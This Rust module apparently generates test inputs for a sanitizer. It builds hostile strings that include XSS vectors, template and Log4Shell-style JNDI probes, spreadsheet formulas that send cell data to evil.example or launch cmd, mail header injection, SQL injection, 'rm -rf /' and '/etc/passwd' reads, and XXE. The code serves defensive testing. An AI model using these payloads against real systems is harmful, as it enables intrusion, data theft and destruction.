//! Hostile texts, put together from building blocks: what breaks out of one place, and what would do
//! harm once it is out.

#[cfg(test)]
mod tests;

use std::collections::BTreeSet;

/// What would run.
const CODE: &str = "window.broken=1";

/// What leaves the place that a text stands in.
const WAYS_OUT: [&str; 16] = [
    "\">",
    "'>",
    "\"/>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    "</dd></dl></main>",
];

/// Every hostile text, each once, none of them empty.
#[must_use]
pub fn payloads() -> Vec<String> {
    let makers = [
        elements,
        out_of_elements,
        out_of_attributes,
        addresses,
        in_other_letters,
        templates,
        styles,
        scripts,
        of_unicode,
        formulas,
        of_mail,
        of_typst,
        of_others,
    ];
    let mut seen = BTreeSet::new();
    let all = makers.iter().flat_map(|make| make());
    all.filter(|text| !text.trim().is_empty() && seen.insert(text.clone())).collect()
}

/// A text as long as a hostile one, in as many lines and words, that does nothing anywhere.
#[must_use]
pub fn harmless(text: &str) -> String {
    text.chars().map(|letter| if letter.is_whitespace() { letter } else { 'a' }).collect()
}

fn of(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| text.replace("CODE", CODE)).collect()
}

/// What runs where markup is taken for markup.
fn elements() -> Vec<String> {
    of(&[
        "<script>CODE</script>",
        "<ScRiPt>CODE</sCrIpT>",
        "<script/x>CODE</script >",
        "<script src=//evil.example/a.js></script>",
        "<script type=module>import('//evil.example/a.js')</script>",
        "<img src=x onerror=CODE>",
        "<img src=x onerror=\"CODE\">",
        "<IMG SRC=x OnErRoR=CODE>",
        "<img/src=x/onerror=CODE>",
        "<image href=x onerror=CODE>",
        "<svg onload=CODE>",
        "<svg/onload=CODE>",
        "<svg><script>CODE</script></svg>",
        "<svg><script href=//evil.example/a.js /></svg>",
        "<svg><animate onbegin=CODE attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:CODE><text x=9 y=9>bấm</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=CODE>#x\"/></svg>",
        "<svg><style><img src=x onerror=CODE></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=CODE>",
        "<math href=javascript:CODE>bấm</math>",
        "<body onload=CODE>",
        "<iframe src=javascript:CODE></iframe>",
        "<iframe srcdoc=\"<script>parent.CODE</script>\"></iframe>",
        "<object data=//evil.example/a.svg></object>",
        "<embed src=//evil.example/a.svg>",
        "<a href=javascript:CODE>bấm</a>",
        "<details open ontoggle=CODE>",
        "<input autofocus onfocus=CODE>",
        "<select autofocus onfocus=CODE>",
        "<video><source onerror=CODE></video>",
        "<audio src=x onerror=CODE>",
        "<marquee onstart=CODE>",
        "<form action=//evil.example><input name=password>",
        "<button formaction=javascript:CODE>gửi</button>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<style>@import '//evil.example/a.css';</style>",
        "<template><script>CODE</script></template>",
        "<x contenteditable onblur=CODE tabindex=1>bấm</x>",
        "<plaintext>",
        "<textarea>",
        "<!--",
        "<![CDATA[<script>CODE</script>]]>",
        "<?xml-stylesheet href=\"javascript:CODE\"?>",
        "<noscript><p title=\"</noscript><img src=x onerror=CODE>\">",
    ])
}

/// Each way out with what would run behind it.
fn out_of_elements() -> Vec<String> {
    let behind = ["<script>CODE</script>", "<img src=x onerror=CODE>", "<svg onload=CODE>"];
    let pairs = WAYS_OUT.iter().flat_map(|way| behind.map(|text| format!("{way}{text}")));
    pairs.map(|text| text.replace("CODE", CODE)).collect()
}

/// Attributes more than the one that a text stands in.
fn out_of_attributes() -> Vec<String> {
    let handlers =
        ["onfocus=CODE autofocus", "onmouseover=CODE", "style=animation:x onanimationend=CODE"];
    let mut all = Vec::new();
    for quote in ["\"", "'", "`", ""] {
        for gap in [" ", "/", "\t", "\n", "\u{c}"] {
            for handler in handlers {
                all.push(format!("x{quote}{gap}{handler} x={quote}").replace("CODE", CODE));
            }
        }
    }
    all
}

/// Where a link should lead to nobody.
fn addresses() -> Vec<String> {
    of(&[
        "javascript:CODE",
        "JaVaScRiPt:CODE",
        "java\tscript:CODE",
        "java\nscript:CODE",
        "java\r\nscript:CODE",
        "\u{1}javascript:CODE",
        " javascript:CODE",
        "javascript&colon;CODE",
        "javascript&#58;CODE",
        "&#106;avascript:CODE",
        "javascript://%0aCODE",
        "javascript:void(CODE)//https://dichvucong.gov.vn",
        "data:text/html,<script>CODE</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=CODE>",
        "vbscript:msgbox(1)",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example\\a",
        "https:evil.example",
        "https://dichvucong.gov.vn@evil.example",
        "http://evil.example/?a=1&b=2#c",
        "blob:https://evil.example/1",
        "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
    ])
}

/// The same in letters that somebody may read as others.
fn in_other_letters() -> Vec<String> {
    of(&[
        "&lt;script&gt;CODE&lt;/script&gt;",
        "&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;",
        "&#60;script&#62;CODE&#60;/script&#62;",
        "&#x3c;script&#x3e;CODE&#x3c;/script&#x3e;",
        "&#0000060script&#0000062CODE",
        "&LT;script&GT;CODE",
        "&quot;onfocus=CODE&quot;",
        "%3Cscript%3ECODE%3C/script%3E",
        "%253Cscript%253ECODE",
        "\\u003cscript\\u003eCODE\\u003c/script\\u003e",
        "\\x3cscript\\x3eCODE",
        "\\74script\\76CODE",
        "+ADw-script+AD4-CODE+ADw-/script+AD4-",
        "\u{ff1c}script\u{ff1e}CODE\u{ff1c}/script\u{ff1e}",
        "\u{2039}script\u{203a}CODE",
        "\u{fe64}script\u{fe65}CODE",
        "<scr\0ipt>CODE</scr\0ipt>",
        "<\0script>CODE",
        "<script\u{200b}>CODE",
        "<\u{feff}img src=x onerror=CODE>",
        "<img src=x\u{a0}onerror=CODE>",
        "<img src=x\u{3000}onerror=CODE>",
        "&nbsp;&shy;&zwj;&lrm;&rlm;",
        "&notin;&not&copy&reg&amp",
    ])
}

/// What engines of templates would work out.
fn templates() -> Vec<String> {
    of(&[
        "{{7*7}}",
        "{{{7*7}}}",
        "${7*7}",
        "#{7*7}",
        "@{7*7}",
        "*{7*7}",
        "[[7*7]]",
        "[(7*7)]",
        "<%= 7*7 %>",
        "<? 7*7 ?>",
        "{% include '/etc/passwd' %}",
        "{# x #}",
        "{{constructor.constructor('CODE')()}}",
        "{n}",
        "{code}",
        "{0}",
        "{}",
        "{{",
        "}}",
        "%s%n%x",
        "%{7*7}",
        "$(id)",
        "`id`",
        "${jndi:ldap://evil.example/a}",
    ])
}

/// What style sheets would load or hide.
fn styles() -> Vec<String> {
    of(&[
        "x;background:url(//evil.example/a)",
        "}*{display:none}",
        "expression(CODE)",
        "</style><script>CODE</script>",
        "\\3c script\\3e CODE",
        "@import '//evil.example/a.css'",
        "/*</style>*/<img src=x onerror=CODE>",
    ])
}

/// What leaves a text of JavaScript or JSON.
fn scripts() -> Vec<String> {
    of(&[
        "\";CODE//",
        "';CODE//",
        "`;CODE//",
        "\\\";CODE//",
        "\\';CODE//",
        "${CODE}",
        "'-CODE-'",
        "\"}];CODE//",
        "</script\u{9}><script>CODE</script>",
        "<!--<script>",
        "\u{2028}CODE",
        "\u{2029}CODE",
        "\\u2028CODE",
        "__proto__",
        "constructor",
        "\\",
        "\"",
        "'",
        "//",
        "/*",
    ])
}

/// Letters that are not what they seem.
fn of_unicode() -> Vec<String> {
    of(&[
        "\u{202e}>tpircs/<1=nekorb.wodniw>tpircs<",
        "\u{2067}<script>CODE</script>\u{2069}",
        "\u{200e}\u{200f}<b>\u{200b}\u{200c}\u{200d}\u{2060}",
        "Nguye\u{302}\u{303}n <b>Thi\u{323}</b> A\u{301}nh",
        "<\u{338}script>CODE",
        "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}<i>",
        "<\u{17f}cript>CODE</\u{17f}cript>",
        "<scr\u{131}pt>CODE</scr\u{131}pt>",
        "<\u{e0073}\u{e0063}script>CODE",
        "\u{fff9}<b>\u{fffa}</b>\u{fffb}",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}<img src=x onerror=CODE>",
        "\u{fdfa}<script>CODE</script>",
        "\u{10ffff}<script>CODE</script>",
        "a\u{7f}b\u{85}c\u{1b}[2J<b>",
        "\u{645}\u{631}\u{62d}\u{628}\u{627} <b>\u{5e9}\u{5dc}\u{5d5}\u{5dd}</b>",
    ])
}

/// What spreadsheets work out, by the sign that a cell begins with.
fn formulas() -> Vec<String> {
    let bodies = [
        "HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")",
        "cmd|'/C calc'!A0",
        "1+1",
        "IMPORTXML(\"http://evil.example\",\"//a\")",
        "SUM(1,2)*DDE(\"cmd\";\"/C calc\";\"x\")",
    ];
    let signs = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\u{ff1d}", "\",=", ";="];
    signs.iter().flat_map(|sign| bodies.map(|body| format!("{sign}{body}"))).collect()
}

/// What makes one header of a mail into two.
fn of_mail() -> Vec<String> {
    of(&[
        "a\r\nBcc: x@evil.example",
        "a\nBcc: x@evil.example",
        "a\rBcc: x@evil.example",
        "a\u{85}Bcc: x@evil.example",
        "a\u{2028}Bcc: x@evil.example",
        "a%0d%0aBcc: x@evil.example",
        "a\r\n\r\n<html><script>CODE</script>",
        "a\r\nContent-Type: text/html\r\n\r\n<b>",
        "a\r\n.\r\nMAIL FROM:<x@evil.example>",
        "=?utf-8?q?=0d=0aBcc:=20x@evil.example?=",
        "=?utf-8?b?PHNjcmlwdD4=?=",
        "\"a\" <x@evil.example>, y@evil.example",
        "<x@evil.example>",
        "--=0197-m=--",
    ])
}

/// What typst would do, were it markup.
fn of_typst() -> Vec<String> {
    of(&[
        "#import \"/x.typ\": *",
        "#include \"/etc/passwd\"",
        "#read(\"/etc/passwd\")",
        "#panic(\"x\")",
        "#set page(width: 1pt, height: 1pt)",
        "#set text(size: 0pt)",
        "#eval(\"1+1\")",
        "#{while true {}}",
        "#pagebreak()",
        "#link(\"javascript:CODE\")[bấm]",
        "#image(\"/a.png\")",
        "$ sum_(i=0)^n x^2 $",
        "*đậm* _nghiêng_",
        "= Đề mục",
        "- một mục",
        "/ Từ: nghĩa",
        "@nhan <nhan>",
        "```rust fn main() {}```",
        "// ghi chú",
        "/* ghi chú",
        "\\u{3c} \\# \\$ \\*",
        "~ -- --- ...",
        "]] #[",
        "\") + panic(\"",
    ])
}

/// What others than the browser would take for orders.
fn of_others() -> Vec<String> {
    of(&[
        "'; DROP TABLE dossier;--",
        "' OR '1'='1",
        "1) UNION SELECT 1--",
        "a\0b",
        "a\r\nlevel=error message=\"giả\"",
        "\u{1b}[31mđỏ\u{1b}[0m",
        "\u{1b}]8;;http://evil.example\u{7}bấm\u{1b}]8;;\u{7}",
        "*)(uid=*))(|(uid=*",
        "; rm -rf / #",
        "| cat /etc/passwd",
        "\\..\\..\\windows\\win.ini",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "CON",
        "NaN",
        "null",
        "undefined",
        "true",
        "[object Object]",
    ])
}
